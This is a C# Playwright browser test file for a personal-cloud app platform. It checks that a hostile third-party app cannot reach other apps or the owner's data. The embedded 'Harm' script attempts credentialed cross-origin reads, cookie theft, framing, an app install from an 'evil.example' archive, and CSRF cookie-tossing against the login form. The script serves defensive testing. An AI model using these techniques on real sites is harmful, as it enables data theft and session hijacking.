using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Cozy.Browser.Tests;

/// <summary>Apps of others in a real browser: one that is made as they all are, and one that means harm.</summary>
public sealed class ForeignAppTests(OwnerServer server) : IClassFixture<OwnerServer>
{
    private const string Passphrase = "lantern ferry walnut";

    private const string Harm =
        """
        const cozy = JSON.parse(document.querySelector('[role=application]').dataset.cozy)
        const home = `//${cozy.domain}`
        const victim = `//victim.${cozy.domain}`
        const attempt = async (name, act) => {
          let outcome
          try { outcome = await act() } catch (failure) { outcome = 'refused' }
          const line = document.createElement('li')
          line.textContent = `${name}: ${outcome}`
          document.querySelector('ul').append(line)
        }
        const read = async (address, options = {}) => {
          const answer = await fetch(address, { credentials: 'include', ...options })
          return answer.ok ? `read ${(await answer.text()).length}` : 'refused'
        }
        const form = (address, fields) => fetch(address, {
          method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(fields)
        })
        const run = async () => {
          await attempt('the page of another app', () => read(victim + '/'))
          await attempt('a file of another app', () => read(victim + '/app.js'))
          await attempt('the first page', () => read(home + '/'))
          await attempt('the login page', () => read(home + '/auth/login'))
          await attempt('documents with the cookie alone', () => read(home + '/data/com.example.secrets/_all_docs'))
          await attempt('documents with its own token', () => read(home + '/data/com.example.secrets/_all_docs',
            { headers: { Authorization: `Bearer ${cozy.token}` } }))
          await attempt('installing an app', () => read(home + '/apps/worse?Source=https://evil.example/x.tar.gz',
            { method: 'POST', headers: { Authorization: `Bearer ${cozy.token}` } }))
          await attempt('the cookies', () => /sess/.test(document.cookie) ? 'seen' : 'refused')
          await attempt('running text', () => { new Function('return 1')(); return 'ran' })
          await attempt('another app in a frame', () => new Promise(resolve => {
            const frame = document.createElement('iframe')
            frame.src = victim + '/'
            frame.onload = () => { try { resolve(frame.contentDocument.body.textContent.length ? 'seen' : 'refused') } catch { resolve('refused') } }
            document.body.append(frame)
          }))
          // A cookie of its own making in place of the one that guards the forms.
          const csrf = 'A'.repeat(43)
          document.cookie = `_csrf=${csrf}; domain=${location.hostname.slice(5)}; path=/auth/logout-everywhere`
          document.cookie = `_csrf=${csrf}; domain=${location.hostname.slice(5)}; path=/auth/login`
          await form(home + '/auth/login', { passphrase: 'x', csrf_token: csrf })
          await attempt('done', () => 'done')
        }
        run()
        """;

    [Fact]
    public async Task An_app_with_the_ecosystems_own_client_queries_listens_and_uploads()
    {
        using var app = AppFolder.Write(
            "client", """ "todos":{"type":"com.example.todos"},"files":{"type":"io.cozy.files"} """,
            """<p id="who"></p><p id="heard"></p><p id="read"></p><p id="file"></p><p id="failure"></p><button id="more">More</button>""",
            await AppFolder.BundleAsync("ClientApp/app.js"));
        await using var owner = await Visitor.ArriveAsync(server.Browser);
        await EnterAsync(owner, "client", app);

        await owner.Page.GotoAsync(server.AppOf("client", "client"));
        await Expect(owner.Page.Locator("#failure")).ToBeEmptyAsync();
        await Expect(owner.Page.Locator("#who")).ToHaveTextAsync($"The client at {server.RootOf("client").TrimEnd('/')}");
        await Expect(owner.Page.Locator("#file")).ToHaveTextAsync("by a real client");
        await Expect(owner.Page.Locator("#read")).ToHaveTextAsync("write an app");
        await owner.Page.ClickAsync("#more");
        await Expect(owner.Page.Locator("#heard")).ToHaveTextAsync("run an app");
        await Expect(owner.Page.Locator("#failure")).ToBeEmptyAsync();
    }

    [Fact]
    public async Task An_app_that_means_harm_reaches_neither_other_apps_nor_what_the_owners_cookie_opens()
    {
        using var victim = AppFolder.Write("victim", """ "x":{"type":"com.example.secrets"} """, "secret", "");
        using var evil = AppFolder.Write("evil", """ "x":{"type":"com.example.todos"} """, "<ul></ul>", Harm);
        await using var owner = await Visitor.ArriveAsync(server.Browser);
        await EnterAsync(owner, "evil", evil, victim);
        var context = owner.Page.Context;

        // What the browser says of the attempts is not a mistake of the page.
        var page = await context.NewPageAsync();
        var statuses = new List<int>();
        page.Response += (_, response) =>
        {
            if (response.Request is { Method: "POST" } && response.Url.EndsWith("/auth/login", StringComparison.Ordinal))
                statuses.Add(response.Status);
        };
        await page.GotoAsync(server.AppOf("evil", "evil"));
        var lines = page.Locator("li");
        await Expect(lines.Last).ToHaveTextAsync("done: done");
        foreach (var line in (await lines.AllTextContentsAsync()).SkipLast(1))
            Assert.EndsWith(": refused", line, StringComparison.Ordinal);
        Assert.Equal([403], statuses);
    }

    /// <summary>Adds an instance with apps, whose owner comes in.</summary>
    private async Task EnterAsync(Visitor owner, string name, params AppFolder[] apps)
    {
        var link = await server.AddInstanceAsync(name);
        foreach (var app in apps)
            await server.InstallAsync(link, app);
        await owner.Page.GotoAsync(link.ToString());
        await owner.TypePassphraseAsync(Passphrase);
        await Expect(owner.Page.Locator(".facts")).ToBeVisibleAsync();
    }
}
